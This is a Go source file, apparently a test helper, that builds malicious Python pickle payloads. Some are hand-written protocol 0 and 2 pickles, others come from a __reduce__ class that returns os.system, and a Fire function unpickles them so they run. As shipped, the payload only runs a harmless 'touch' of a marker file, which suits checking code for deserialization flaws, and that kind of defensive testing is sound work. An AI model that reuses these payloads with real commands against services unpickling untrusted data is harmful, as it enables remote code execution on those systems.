package trojan

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os/exec"
	"strings"
)

// Payload is one exploit pickle.
type Payload struct {
	Name string
	Data []byte
}

// Command returns the shell command the payloads run: it creates marker.
func Command(marker string) string {
	return "touch '" + strings.ReplaceAll(marker, "'", `'\''`) + "'"
}

// Handmade returns two pickles written by hand, needing no Python: a
// protocol 0 (text) one and a protocol 2 (binary) one, each calling
// os.system(Command(marker)).
func Handmade(marker string) []Payload {
	cmd := Command(marker)
	p0 := "cos\nsystem\n(V" + cmd + "\ntR."
	var p2 bytes.Buffer
	p2.WriteString("\x80\x02cposix\nsystem\nq\x00X")
	binary.Write(&p2, binary.LittleEndian, uint32(len(cmd)))
	p2.WriteString(cmd)
	p2.WriteString("q\x01\x85q\x02Rq\x03.")
	return []Payload{{"handmade protocol 0", []byte(p0)}, {"handmade protocol 2", p2.Bytes()}}
}

const pyDumps = `
import os, pickle, sys
class Exploit:
    def __reduce__(self):
        return (os.system, (sys.argv[1],))
for proto in range(pickle.HIGHEST_PROTOCOL + 1):
    print(proto, pickle.dumps(Exploit(), protocol=proto).hex())
`

// FromPython returns pickle.dumps of the exploit made by python, with
// every pickle protocol it knows.
func FromPython(python, marker string) ([]Payload, error) {
	out, err := exec.Command(python, "-c", pyDumps, Command(marker)).Output()
	if err != nil {
		return nil, fmt.Errorf("trojan: %s: %w", python, err)
	}
	var ps []Payload
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		proto, hx, ok := strings.Cut(line, " ")
		b, err := hex.DecodeString(hx)
		if !ok || err != nil {
			return nil, fmt.Errorf("trojan: bad output line %q", line)
		}
		ps = append(ps, Payload{Name: "python protocol " + proto, Data: b})
	}
	return ps, nil
}

// Fire unpickles data with python, running the exploit.
func Fire(python string, data []byte) error {
	cmd := exec.Command(python, "-c", "import pickle, sys; pickle.loads(sys.stdin.buffer.read())")
	cmd.Stdin = bytes.NewReader(data)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("trojan: unpickling: %v: %s", err, out)
	}
	return nil
}
